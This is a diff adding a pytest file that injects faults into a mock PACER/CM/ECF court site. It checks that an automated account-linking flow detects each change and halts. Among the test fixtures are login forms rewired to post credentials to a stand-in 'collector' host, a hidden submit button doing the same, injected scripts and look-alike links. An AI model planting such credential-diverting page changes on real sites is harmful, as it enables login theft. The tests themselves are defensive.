@@ -1,0 +1,238 @@
+"""A court that differs from its documents fails the right step, and the message names both."""
+
+from dataclasses import dataclass
+
+import pytest
+
+from stage.faults.model import Fault, Requests
+from tests.helpers.cases import mark_cases
+from tests.helpers.faulty_stage import (
+    CMECF_LOGIN,
+    CMECF_PAGES,
+    FRONT_PAGE,
+    LINK_FORM,
+    LINK_FORM_SENT,
+    PACER_LOGIN,
+    WEBSITE_HOME,
+    FaultyStage,
+)
+from tests.helpers.flow_runner import FlowRunner
+from tests.helpers.run_files import Changes, read_failure
+
+
+@dataclass(frozen=True)
+class Change:
+    """A change of the court, the step that must fail, and a part of its message."""
+
+    fault: Fault
+    step: str
+    message: str
+
+
+def replace_on_page(requests: Requests, text: str, becomes: str) -> Fault:
+    """Return a fault that replaces a text on a page."""
+    return Fault(on=requests, replace=(text, becomes))
+
+
+LOG_OUT_ENTRY = (
+    '<li class="yuimenubaritem" data-name="Log Out">'
+    '<a class="yuimenubaritemlabel" href="/cgi-bin/login.pl?logout">Log Out</a></li>'
+)
+LINK_FORM_BEGINS = "<p>This utility links"
+ECF_ROW = "<tr><td>CM/ECF</td>"
+PACER_NAME = "<tr><td>PACER</td><td"
+LOGIN_ADDRESS = "{ecf}/cgi-bin/login.pl"
+
+CHANGES = {
+    "a menu entry is renamed": Change(
+        replace_on_page(CMECF_PAGES, ">Reports<", ">Records<"),
+        "3",
+        "cmecf_home menu: documented [Query, Reports, Utilities, Help, Log Out]; "
+        "seen [Query, Records, Utilities, Help, Log Out] (not seen: [Reports]; not documented: [Records])",
+    ),
+    "a field is dropped": Change(
+        replace_on_page(LINK_FORM, 'type="password"', 'type="hidden"'),
+        "4",
+        "link_account fields: documented [CM/ECF login:, CM/ECF password:]; "
+        "seen [CM/ECF login:] (not seen: [CM/ECF password:])",
+    ),
+    "a name on the confirmation is swapped": Change(
+        Fault(rule="confirmation_shows_ecf_name"), "5", 'link_confirmation rows shows CM/ECF as "'
+    ),
+    "the Criminal entry is lost": Change(
+        replace_on_page(CMECF_PAGES, "Crimi<u>n</u>al", "Cri<u>m</u>es"),
+        "6",
+        "(not seen: [Criminal]; not documented: [Crimes])",
+    ),
+    "the notice is changed": Change(
+        replace_on_page(
+            PACER_LOGIN, "All activities and access attempts are logged.", "Some activities are logged."
+        ),
+        "restricted",
+        "prosecution under Title 18 of the U.S. Code. Some activities are logged.",
+    ),
+    "a wrong name is above the right one": Change(
+        replace_on_page(LINK_FORM_SENT, ECF_ROW, f"<tr><td>CM/ECF</td><td>Somebody Else</td></tr>{ECF_ROW}"),
+        "5",
+        'shows CM/ECF as "Somebody Else and again ',
+    ),
+    "a name is in a third cell": Change(
+        replace_on_page(LINK_FORM_SENT, ECF_ROW, f"<tr><td>CM/ECF</td><td>No.</td><td>7</td></tr>{ECF_ROW}"),
+        "5",
+        'shows CM/ECF as "No. | 7 and again ',
+    ),
+    "a name cannot be seen": Change(
+        replace_on_page(LINK_FORM_SENT, PACER_NAME, f'{PACER_NAME} style="display: none"'),
+        "5",
+        'link_confirmation rows shows PACER as ""',
+    ),
+    "another account is named outside the rows": Change(
+        replace_on_page(
+            LINK_FORM_SENT,
+            "link these accounts?</p>",
+            "link these accounts?</p><p>PACER account of Smith and Partners LLP</p>",
+        ),
+        "5",
+        "not documented: [PACER account of Smith and Partners LLP]",
+    ),
+    "a link cannot be seen": Change(
+        replace_on_page(
+            PACER_LOGIN,
+            '<a href="/pscof/forgotUserName.jsf">',
+            '<a style="display: none" href="/pscof/forgotUserName.jsf">',
+        ),
+        "2",
+        "not seen: [Forgot User Name?]",
+    ),
+    "a menu entry is another kind of link": Change(
+        replace_on_page(CMECF_PAGES, LOG_OUT_ENTRY, f'{LOG_OUT_ENTRY}<li><a href="/">Civil</a></li>'),
+        "3",
+        "not documented: [Civil]",
+    ),
+    "the question is worded differently": Change(
+        replace_on_page(LINK_FORM_SENT, "Do you want to link", "Do you wish to link"),
+        "5",
+        "not documented: [Do you wish to link these accounts?]",
+    ),
+    "the court alerts its users": Change(
+        replace_on_page(
+            LINK_FORM, LINK_FORM_BEGINS, f"<script>alert('Closed tonight')</script>{LINK_FORM_BEGINS}"
+        ),
+        "4",
+        'a dialog that is not documented: "Closed tonight"',
+    ),
+    "what is typed at the login would be sent elsewhere": Change(
+        replace_on_page(
+            PACER_LOGIN,
+            '<form id="loginForm" name="loginForm" method="post"',
+            '<form id="loginForm" name="loginForm" method="post" action="http://collector.localhost:9/take"',
+        ),
+        "2",
+        "but a form on the page submits to http://collector.localhost:9/take",
+    ),
+    "a button of the link form would send it elsewhere": Change(
+        replace_on_page(
+            LINK_FORM,
+            '<input name="reset"',
+            '<input type="submit" value="" hidden formaction="//collector.localhost:9/take">'
+            '<input name="reset"',
+        ),
+        "4",
+        "link_account submit: nothing was typed; the court's file says http://ecf.ctd.localhost:",
+    ),
+    "two links with the same words lead to different places": Change(
+        replace_on_page(
+            WEBSITE_HOME,
+            "<p>Attorneys file",
+            '<a href="http://elsewhere.localhost:9/">E-Filing (CM/ECF)</a><p>Attorneys file',
+        ),
+        "1",
+        'links with the same words lead to different places, so none was clicked: "E-Filing (CM/ECF) »" -> http://',
+    ),
+    "the link leads to another host": Change(
+        replace_on_page(WEBSITE_HOME, LOGIN_ADDRESS, "http://elsewhere.localhost:9/"),
+        "1",
+        '"E-Filing (CM/ECF) »" leads to http://elsewhere.localhost:9/; the court\'s file says that CM/ECF is',
+    ),
+    "the link leads to the training database": Change(
+        replace_on_page(WEBSITE_HOME, LOGIN_ADDRESS, "http://ecf-train.ctd.localhost:9/"),
+        "1",
+        "leads to http://ecf-train.ctd.localhost:9/, a training system; the court's file says",
+    ),
+    "the front page has no link": Change(
+        Fault(
+            on=FRONT_PAGE,
+            remove='<a href="/cgi-bin/login.pl">District of Connecticut - Document Filing System</a>',
+        ),
+        "one-login",
+        "click_logo should lead to cmecf_front_page, known by a link to the login; shown: an unknown screen",
+    ),
+    "the menu bar has no way to log out": Change(
+        Fault(on=CMECF_LOGIN, remove=LOG_OUT_ENTRY),
+        "2",
+        "log_in should lead to cmecf_home, known by a menu bar with a link that logs out; shown: an unknown",
+    ),
+    "the court opens another window": Change(
+        replace_on_page(
+            LINK_FORM,
+            LINK_FORM_BEGINS,
+            f"<script>window.open('/cgi-bin/CourtInfo.pl?location=main')</script>{LINK_FORM_BEGINS}",
+        ),
+        "4",
+        "link_account: the court opened another tab or window, which is not documented: http://ecf.ctd.localhost:",
+    ),
+    "the password would be shown as it is typed": Change(
+        replace_on_page(PACER_LOGIN, 'type="password"', 'type="text"'),
+        "2",
+        "pacer_login.log_in cannot be done, and nothing was sent",
+    ),
+}
+
+QUICK = {
+    "a menu entry is renamed",
+    "a name on the confirmation is swapped",
+    "another account is named outside the rows",
+    "the court alerts its users",
+    "what is typed at the login would be sent elsewhere",
+    "a button of the link form would send it elsewhere",
+    "two links with the same words lead to different places",
+    "the link leads to another host",
+    "the court opens another window",
+}
+SHORT_LIMITS: Changes = {"limits": {"arrive": 6, "act": 2, "settle": 0.5}}
+"""The run waits this long for a court that differs."""
+
+CHANGES_AFTER_READING = """<script>
+const ask = document.querySelectorAll.bind(document);
+let readings = 0;
+document.querySelectorAll = css => {
+    // The rows are read by two checks, `rows` and `agreement`, and then again before submitting.
+    const again = css.includes('tr:not(:has(tr))') && ++readings === 3;
+    if (again) ask('.accounts td')[3].textContent = 'Somebody Else';
+    return ask(css);
+};
+</script>"""
+
+
+def test_a_permanent_effect_is_checked_again_right_before_it_is_submitted(
+    stage: FaultyStage, runner: FlowRunner
+) -> None:
+    stage.fail(replace_on_page(LINK_FORM_SENT, "</form>", f"</form>{CHANGES_AFTER_READING}"))
+    runner.run()
+    failed = read_failure(runner.folder)
+    assert (failed["step"], failed["outcome"]) == ("5", "DRIFT")
+    assert 'rows shows PACER as "Somebody Else"' in failed["message"]
+    assert stage.count("link_made") == 0
+
+
+@pytest.mark.parametrize("change", mark_cases(CHANGES, quick=QUICK))
+def test_a_changed_court_fails_the_step_that_documents_the_change(
+    change: Change, stage: FaultyStage, runner: FlowRunner
+) -> None:
+    stage.fail(change.fault)
+    run = runner.run(SHORT_LIMITS)
+    failed = read_failure(runner.folder)
+    assert (failed["step"], failed["outcome"], run.status) == (change.step, "DRIFT", 1)
+    assert change.message in failed["message"]
+    assert change.message.split("; ")[0] in " ".join(run.output.split())
+    assert (runner.folder / "out" / "report.html").is_file()
